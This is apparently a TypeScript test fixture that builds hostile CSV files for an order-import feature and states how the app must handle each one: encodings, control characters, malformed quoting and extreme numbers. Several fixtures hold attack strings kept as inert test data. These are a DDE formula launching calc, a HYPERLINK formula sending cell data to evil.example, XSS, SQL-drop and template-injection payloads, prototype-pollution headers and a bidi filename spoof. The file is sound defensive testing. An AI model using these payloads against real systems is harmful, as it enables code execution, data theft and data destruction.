// The committed hostile files: how each one's bytes are made and what the app must do with it.
// `npx tsx tests/hostile/makeFiles.ts` writes tests/hostile/files/ from here; the integration test
// reads the committed files and checks they still match (so a file edited by hand is noticed).
import Papa from 'papaparse';
import type { CsvEncoding } from '../../shared/import/encoding';
import type { ColumnMapping, ImportField } from '../../shared/import/fields';
import { FULL_HEADER, SMALL_HEADER } from './generate';

type Row = Record<string, string>;

/** A clean order row of the full header; cases override single fields. */
export const BASE: Row = {
  order_number: 'H-1',
  channel: 'Shopify',
  order_date: '2026-11-03',
  consignee_name: 'Emily Carter',
  consignee_company: '',
  address1: '742 Evergreen Terrace',
  address2: '',
  city: 'Springfield',
  state: 'IL',
  postal_code: '62704',
  country: 'US',
  phone: '+1 217 555 0142',
  email: 'emily.carter@example.com',
  tax_id: '',
  shipping_method: 'express',
  currency: 'USD',
  incoterm: 'DAP',
  order_total: '',
  sku: 'XM-BUDS5',
  description: 'Wireless earbuds',
  brand: 'Xiaomi',
  model: 'Redmi Buds 5',
  quantity: '1',
  unit: 'PCE',
  unit_price: '29.99',
  hs_code: '851830',
  origin_country: 'CN',
};

const FIELDS = FULL_HEADER.split(',');

/** CSV text of full-header rows, quoted where needed, CRLF as Excel writes it. */
function fullCsv(rows: Row[], opts: { delimiter?: string; newline?: string } = {}): string {
  return (
    Papa.unparse(
      { fields: FIELDS, data: rows.map((r) => FIELDS.map((f) => ({ ...BASE, ...r })[f] ?? '')) },
      { delimiter: opts.delimiter ?? ',', newline: opts.newline ?? '\r\n' },
    ) + (opts.newline ?? '\r\n')
  );
}

const utf8 = (text: string) => new TextEncoder().encode(text);
function utf16(text: string, order: 'le' | 'be'): Uint8Array {
  const buf = Buffer.from('\uFEFF' + text, 'utf16le');
  if (order === 'be') buf.swap16();
  return new Uint8Array(buf);
}
/** Windows-1252 for the characters the corpus uses (Latin-1 range plus the euro sign). */
function cp1252(text: string): Uint8Array {
  return new Uint8Array([...text].map((c) => (c === '€' ? 0x80 : c.charCodeAt(0) <= 0xff ? c.charCodeAt(0) : 0x3f)));
}

export type Counts = { new: number; existing: number; conflict: number; invalid: number };

export interface CorpusCase {
  file: string;
  about: string;
  bytes: () => Uint8Array;
  /** What decodeCsvBytes (the renderer) makes of the bytes. */
  decoded: { encoding: CsvEncoding; warning?: 'import.badEncoding' | 'import.legacyEncoding' };
  mapping?: ColumnMapping;
  preview: { rowCount?: number; missingFields?: ImportField[]; counts?: Counts; errors?: [number, string, string?][] };
  /** The plain commit: what it creates, or the error code it is refused with (DB unchanged). */
  commit: { created: number } | { refused: string };
  /** With onlyValid, when the plain commit was refused for row errors. */
  onlyValid?: { created: number; rejected: number };
  /** Values orders.get must return exactly: order number -> fields (consignee.* and lines[i].* by path). */
  stored?: Record<string, Record<string, string>>;
  /** What main does with the text a renderer would get from File.text() (UTF-8, U+FFFD for bad bytes). */
  asUtf8?: { refused: string[] };
}

const ALL_MISSING: ImportField[] = ['orderNumber', 'consigneeName', 'country', 'currency', 'quantity', 'unitPrice'];
const XSS = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'];

export const CORPUS: CorpusCase[] = [
  {
    file: 'formula-injection.csv',
    about: 'Spreadsheet formulas in text cells (=, +, -, @, tab- and CR-prefixed, with a line break)',
    bytes: () =>
      utf8(
        fullCsv([
          {
            order_number: 'F-1',
            description: "=cmd|' /C calc'!A0",
            brand: '+1+1',
            model: '-2+3',
            sku: '@SUM(1)',
            consignee_company: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          },
          { order_number: 'F-2', description: '\t=1+1', brand: '\r=2+2', address2: '-3+3' },
          { order_number: 'F-3', description: '=1+1\nsecond line', address1: '@A1', city: '+Springfield' },
        ]),
      ),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 3, counts: { new: 3, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 3 },
    stored: {
      'F-1': {
        'lines.0.description': "=cmd|' /C calc'!A0",
        'lines.0.brand': '+1+1',
        'lines.0.model': '-2+3',
        'lines.0.sku': '@SUM(1)',
        'consignee.company': '=HYPERLINK("http://evil.example/?"&A1,"click")',
      },
      // Leading tab/CR are whitespace and trimmed like any other; what is left is stored as text.
      'F-2': { 'lines.0.description': '=1+1', 'lines.0.brand': '=2+2', 'consignee.address2': '-3+3' },
      'F-3': { 'lines.0.description': '=1+1\nsecond line', 'consignee.address1': '@A1', 'consignee.city': '+Springfield' },
    },
  },
  {
    file: 'proto-headers.csv',
    about: '__proto__, constructor, prototype, toString, hasOwnProperty as extra column headers',
    bytes: () =>
      utf8(`__proto__,constructor,prototype,toString,hasOwnProperty,${SMALL_HEADER}\r\n"{""polluted"":1}",x,y,z,w,P-1,Ann Lee,US,USD,1,2.00,mug\r\n`),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 1, counts: { new: 1, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 1 },
    stored: { 'P-1': { 'consignee.name': 'Ann Lee', 'lines.0.description': 'mug' } },
  },
  {
    file: 'proto-mapped.csv',
    about: 'Only prototype-ish headers, mapped by hand onto the six required fields',
    bytes: () => utf8('__proto__,constructor,prototype,toString,valueOf,hasOwnProperty\r\nPM-1,Ann Lee,US,USD,2,3.25\r\n'),
    decoded: { encoding: 'utf-8' },
    mapping: {
      orderNumber: '__proto__',
      consigneeName: 'constructor',
      country: 'prototype',
      currency: 'toString',
      quantity: 'valueOf',
      unitPrice: 'hasOwnProperty',
    },
    preview: { rowCount: 1, missingFields: [], counts: { new: 1, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 1 },
    stored: { 'PM-1': { 'consignee.name': 'Ann Lee', 'lines.0.quantity': '2', 'lines.0.unitPrice': '3.25' } },
  },
  {
    file: 'markup.csv',
    about: 'HTML/script markup and SQL in every text field',
    bytes: () =>
      utf8(
        fullCsv([
          {
            order_number: XSS[0]!,
            channel: XSS[1]!.slice(0, 60),
            consignee_name: XSS[2]!,
            consignee_company: XSS[1]!,
            address1: XSS[0]!,
            address2: XSS[2]!,
            city: XSS[1]!,
            state: XSS[0]!,
            postal_code: '"><svg onload=1>',
            phone: XSS[1]!,
            tax_id: XSS[0]!,
            sku: XSS[1]!,
            description: XSS.join(' '),
            brand: XSS[2]!,
            model: XSS[0]!,
          },
          {
            order_number: "M-2'; DROP TABLE orders; --",
            consignee_name: "Robert'); DROP TABLE orders;--",
            description: '{{constructor.constructor("alert(1)")()}}',
            brand: '${7*7}',
          },
        ]),
      ),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 2 },
    stored: {
      [XSS[0]!]: {
        channel: XSS[1]!,
        'consignee.name': XSS[2]!,
        'consignee.company': XSS[1]!,
        'consignee.address1': XSS[0]!,
        'consignee.address2': XSS[2]!,
        'consignee.city': XSS[1]!,
        'consignee.state': XSS[0]!,
        'consignee.postalCode': '"><svg onload=1>',
        'consignee.phone': XSS[1]!,
        'consignee.taxId': XSS[0]!,
        'lines.0.sku': XSS[1]!,
        'lines.0.description': XSS.join(' '),
        'lines.0.brand': XSS[2]!,
        'lines.0.model': XSS[0]!,
      },
      "M-2'; DROP TABLE orders; --": {
        'consignee.name': "Robert'); DROP TABLE orders;--",
        'lines.0.description': '{{constructor.constructor("alert(1)")()}}',
        'lines.0.brand': '${7*7}',
      },
    },
  },
  {
    file: 'control-chars.csv',
    about: 'C0 controls (SOH, ESC, NUL, VT), DEL and a C1 control inside fields; a tab inside a field is fine',
    bytes: () =>
      utf8(
        fullCsv([
          { order_number: 'C-1', consignee_name: 'Emily\u0001Carter' },
          { order_number: 'C-2', address1: '742 Evergreen\u001b[2J Terrace' },
          { order_number: 'C-3', description: 'Mug\u007f' },
          { order_number: 'C-4', city: 'Spring\u0000field' },
          { order_number: 'C-5', sku: 'XM\u000bBUDS5' },
          { order_number: 'C-6', brand: 'Xiao\u0085mi' },
          { order_number: 'C-7', description: 'Tab\tinside is fine' },
        ]),
      ),
    decoded: { encoding: 'utf-8' },
    preview: {
      rowCount: 7,
      counts: { new: 1, existing: 0, conflict: 0, invalid: 6 },
      errors: [
        [2, 'validation.controlChars', 'consigneeName'],
        [3, 'validation.controlChars', 'address1'],
        [4, 'validation.controlChars', 'description'],
        [5, 'validation.controlChars', 'city'],
        [6, 'validation.controlChars', 'sku'],
        [7, 'validation.controlChars', 'brand'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 1, rejected: 6 },
    stored: { 'C-7': { 'lines.0.description': 'Tab\tinside is fine' } },
  },
  {
    file: 'bidi-and-separators.csv',
    about: 'Bidi override U+202E and isolate U+2066 (refused); U+2028/U+2029 and RLM in Arabic (kept)',
    bytes: () =>
      utf8(
        fullCsv([
          { order_number: 'B-1', consignee_name: 'Ann \u202Egpj.exe' },
          { order_number: 'B-2', city: '\u2066Springfield\u2069' },
          { order_number: 'B-3', description: 'first\u2028second\u2029third' },
          { order_number: 'B-4', consignee_name: 'محمد\u200F علي', address1: 'שדרות רוטשילד 1' },
        ]),
      ),
    decoded: { encoding: 'utf-8' },
    preview: {
      rowCount: 4,
      counts: { new: 2, existing: 0, conflict: 0, invalid: 2 },
      errors: [
        [2, 'validation.controlChars', 'consigneeName'],
        [3, 'validation.controlChars', 'city'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 2, rejected: 2 },
    stored: {
      'B-3': { 'lines.0.description': 'first\u2028second\u2029third' },
      'B-4': { 'consignee.name': 'محمد\u200F علي', 'consignee.address1': 'שדרות רוטשילד 1' },
    },
  },
  {
    file: 'utf8-invalid.csv',
    about: 'UTF-8 with accents and one broken byte sequence (0xC3 0x28) in row 3',
    bytes: () => {
      const text = fullCsv([
        { order_number: 'U-1', consignee_name: 'Lukas Müller', city: 'München' },
        { order_number: 'U-2', consignee_name: 'Jürgen XX', city: 'Köln' },
      ]);
      const b = utf8(text);
      // Overwrite the ASCII marker with an invalid sequence: 0xC3 starts a two-byte character, '(' cannot continue it.
      const pos = Buffer.from(b).indexOf('XX');
      if (pos < 0) throw new Error('marker not found');
      b[pos] = 0xc3;
      b[pos + 1] = 0x28;
      return b;
    },
    decoded: { encoding: 'utf-8', warning: 'import.badEncoding' },
    preview: {
      rowCount: 2,
      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
      errors: [
        [3, 'import.badEncoding'],
        [3, 'import.rowUnreadable'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 1, rejected: 1 },
  },
  {
    file: 'utf16le-bom.csv',
    about: 'UTF-16 LE with BOM, tab-separated (Excel "Unicode text")',
    bytes: () =>
      utf16(
        fullCsv([{ order_number: 'W-1', city: 'München', consignee_name: 'Zoë Ångström', description: 'Mug 😀' }, { order_number: 'W-2' }], {
          delimiter: '\t',
        }),
        'le',
      ),
    decoded: { encoding: 'utf-16le' },
    preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 2 },
    stored: { 'W-1': { 'consignee.city': 'München', 'consignee.name': 'Zoë Ångström', 'lines.0.description': 'Mug 😀' } },
    asUtf8: { refused: ['errors.importHasErrors', 'errors.importMissingColumns'] },
  },
  {
    file: 'utf16be-bom.csv',
    about: 'UTF-16 BE with BOM, comma-separated',
    bytes: () => utf16(fullCsv([{ order_number: 'W-1', city: 'München', consignee_name: 'Zoë Ångström' }, { order_number: 'W-2' }]), 'be'),
    decoded: { encoding: 'utf-16be' },
    preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 2 },
    stored: { 'W-1': { 'consignee.city': 'München', 'consignee.name': 'Zoë Ångström' } },
    asUtf8: { refused: ['errors.importHasErrors', 'errors.importMissingColumns'] },
  },
  {
    file: 'windows-1252.csv',
    about: 'Windows-1252 (Excel "CSV" on Western Windows): München as 0xFC, € as 0x80, ;-separated',
    bytes: () =>
      cp1252(
        fullCsv(
          [
            {
              order_number: 'L-1',
              city: 'München',
              consignee_name: 'Zoë Ångström',
              description: 'Tasse, 5 €',
              currency: 'EUR',
              unit_price: '12,50',
              country: 'DE',
              postal_code: '80331',
              state: 'BY',
            },
            { order_number: 'L-2', currency: 'EUR', unit_price: '1.234,50' },
          ],
          { delimiter: ';' },
        ),
      ),
    decoded: { encoding: 'windows-1252', warning: 'import.legacyEncoding' },
    preview: { rowCount: 2, counts: { new: 2, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 2 },
    stored: {
      'L-1': { 'consignee.city': 'München', 'consignee.name': 'Zoë Ångström', 'lines.0.description': 'Tasse, 5 €', 'lines.0.unitPrice': '12.50' },
      'L-2': { 'lines.0.unitPrice': '1234.50' },
    },
    asUtf8: { refused: ['errors.importHasErrors'] },
  },
  {
    file: 'bom-only.csv',
    about: 'Nothing but a UTF-8 BOM',
    bytes: () => new Uint8Array([0xef, 0xbb, 0xbf]),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 0, missingFields: ALL_MISSING, errors: [] },
    commit: { refused: 'errors.importMissingColumns' },
  },
  {
    file: 'empty.csv',
    about: 'Zero bytes',
    bytes: () => new Uint8Array(),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 0, missingFields: ALL_MISSING, errors: [] },
    commit: { refused: 'errors.importMissingColumns' },
  },
  {
    file: 'whitespace-only.csv',
    about: 'Only blank lines and spaces',
    bytes: () => utf8('\r\n\r\n   \n\t\n'),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 0, missingFields: ALL_MISSING, errors: [] },
    commit: { refused: 'errors.importMissingColumns' },
  },
  {
    file: 'only-delimiters.csv',
    about: 'Rows of nothing but commas',
    bytes: () => utf8(',,,,,,\r\n,,,,,,\r\n'),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 0, missingFields: ALL_MISSING, errors: [] },
    commit: { refused: 'errors.importMissingColumns' },
  },
  {
    file: 'header-only.csv',
    about: 'The header and no rows',
    bytes: () => utf8(FULL_HEADER + '\r\n'),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 0, missingFields: [], counts: { new: 0, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { refused: 'errors.importEmpty' },
  },
  {
    file: 'unclosed-quote.csv',
    about: 'A quoted field never closed (after a blank line), swallowing the rows after it',
    bytes: () =>
      utf8(`${SMALL_HEADER}\r\nQ-1,Ann Lee,US,USD,1,2.00,fine\r\n\r\nQ-2,Bob Lee,US,USD,1,2.00,"never closed\r\nQ-3,Cy Lee,US,USD,1,2.00,swallowed\r\n`),
    decoded: { encoding: 'utf-8' },
    // Row 4: the blank row 3 counts, as in a spreadsheet. Q-3 is inside Q-2's open quote.
    preview: {
      rowCount: 2,
      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
      errors: [
        [4, 'import.csvSyntax'],
        [4, 'import.rowUnreadable'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 1, rejected: 1 },
  },
  {
    file: 'stray-quotes.csv',
    about: 'A quote inside an unquoted field (kept as text) and text after a closing quote (refused)',
    bytes: () => utf8(`${SMALL_HEADER}\r\nS-1,Ann "the" Lee,US,USD,1,2.00,fine\r\nS-2,Bob,US,USD,1,2.00,"abc"def\r\n`),
    decoded: { encoding: 'utf-8' },
    preview: {
      rowCount: 2,
      counts: { new: 1, existing: 0, conflict: 0, invalid: 1 },
      errors: [
        [3, 'import.csvSyntax'],
        [3, 'import.csvSyntax'],
        [3, 'import.rowUnreadable'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 1, rejected: 1 },
    stored: { 'S-1': { 'consignee.name': 'Ann "the" Lee' } },
  },
  {
    file: 'mixed-line-endings.csv',
    about: 'Rows ending in CRLF, LF and CR in one file, and a CRLF inside a quoted cell',
    bytes: () =>
      utf8(
        `${SMALL_HEADER}\r\nE-1,Ann Lee,US,USD,1,2.00,"line 1\r\nline 2"\nE-2,Bob Lee,US,USD,1,2.00,lf\rE-3,Cy Lee,US,USD,1,2.00,cr\r\nE-4,Di Lee,US,USD,1,2.00,crlf\n`,
      ),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 4, counts: { new: 4, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 4 },
    stored: { 'E-1': { 'lines.0.description': 'line 1\nline 2' }, 'E-3': { 'lines.0.description': 'cr' } },
  },
  {
    file: 'extreme-numbers.csv',
    about: 'Negative, exponent, NaN, Infinity, hex, Arabic and full-width digits, 20 digits, too many decimals, -0, +5',
    bytes: () =>
      utf8(
        fullCsv([
          { order_number: 'N-01', quantity: '-1' },
          { order_number: 'N-02', unit_price: '1e308' },
          { order_number: 'N-03', quantity: '1e5' },
          { order_number: 'N-04', unit_price: 'NaN' },
          { order_number: 'N-05', unit_price: 'Infinity' },
          { order_number: 'N-06', quantity: '0x10' },
          { order_number: 'N-07', quantity: '١٢٣' },
          { order_number: 'N-08', unit_price: '99999999999999999999' },
          { order_number: 'N-09', unit_price: '1.001' },
          { order_number: 'N-10', currency: 'JPY', unit_price: '150.5' },
          { order_number: 'N-11', unit_price: '-0' },
          { order_number: 'N-12', order_total: '1e308' },
          { order_number: 'N-13', quantity: '1.2345' },
          { order_number: 'N-14', unit_price: '+5' },
          { order_number: 'N-15', unit_price: '１２' },
          { order_number: 'N-16', unit_price: '-0.00' },
          // Accepted: the largest price (15 integer digits), zero quantity (flagged at confirmation),
          // thousands separators, spaces around the number.
          { order_number: 'N-17', unit_price: '999999999999999', quantity: '1000' },
          { order_number: 'N-18', quantity: '0' },
          { order_number: 'N-19', unit_price: '1,234.50' },
          { order_number: 'N-20', unit_price: ' 7 ' },
        ]),
      ),
    decoded: { encoding: 'utf-8' },
    preview: {
      rowCount: 20,
      counts: { new: 4, existing: 0, conflict: 0, invalid: 16 },
      errors: [
        [2, 'validation.quantity', 'quantity'],
        [3, 'validation.decimal', 'unitPrice'],
        [4, 'validation.decimal', 'quantity'],
        [5, 'validation.decimal', 'unitPrice'],
        [6, 'validation.decimal', 'unitPrice'],
        [7, 'validation.decimal', 'quantity'],
        [8, 'validation.decimal', 'quantity'],
        [9, 'validation.decimal', 'unitPrice'],
        [10, 'validation.priceDigits', 'unitPrice'],
        [11, 'validation.priceDigits', 'unitPrice'],
        [12, 'validation.unitPrice', 'unitPrice'],
        [13, 'validation.decimal', 'orderTotal'],
        [14, 'validation.quantity', 'quantity'],
        [15, 'validation.decimal', 'unitPrice'],
        [16, 'validation.decimal', 'unitPrice'],
        [17, 'validation.unitPrice', 'unitPrice'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 4, rejected: 16 },
    stored: {
      'N-17': { 'lines.0.unitPrice': '999999999999999', 'lines.0.quantity': '1000' },
      'N-18': { 'lines.0.quantity': '0' },
      'N-19': { 'lines.0.unitPrice': '1234.50' },
      'N-20': { 'lines.0.unitPrice': '7' },
    },
  },
  {
    file: 'ambiguous-thousands.csv',
    about: 'A ;-file (decimal commas) with "1.000" and "1.299": a thousands dot, or a decimal point?',
    bytes: () =>
      utf8(
        fullCsv(
          [
            { order_number: 'T-1', currency: 'EUR', quantity: '1.000', unit_price: '2,50' },
            { order_number: 'T-2', currency: 'EUR', unit_price: '1.299' },
            { order_number: 'T-3', currency: 'EUR', quantity: '0.500', unit_price: '1.299,00', order_total: '649,50' },
          ],
          { delimiter: ';' },
        ),
      ),
    decoded: { encoding: 'utf-8' },
    preview: {
      rowCount: 3,
      counts: { new: 1, existing: 0, conflict: 0, invalid: 2 },
      errors: [
        [2, 'import.ambiguousNumber', 'quantity'],
        [3, 'import.ambiguousNumber', 'unitPrice'],
        [3, 'validation.priceDigits', 'unitPrice'],
      ],
    },
    commit: { refused: 'errors.importHasErrors' },
    onlyValid: { created: 1, rejected: 2 },
    stored: { 'T-3': { 'lines.0.quantity': '0.500', 'lines.0.unitPrice': '1299.00', declaredTotal: '649.50' } },
  },
  {
    file: 'duplicate-headers.csv',
    about: 'The same header twice: the first one is used',
    bytes: () => utf8('order_number,consignee_name,country,country,currency,quantity,unit_price\r\nD-1,Ann Lee,US,XX,USD,1,2.00\r\n'),
    decoded: { encoding: 'utf-8' },
    preview: { rowCount: 1, counts: { new: 1, existing: 0, conflict: 0, invalid: 0 }, errors: [] },
    commit: { created: 1 },
    stored: { 'D-1': { 'consignee.country': 'US' } },
  },
];
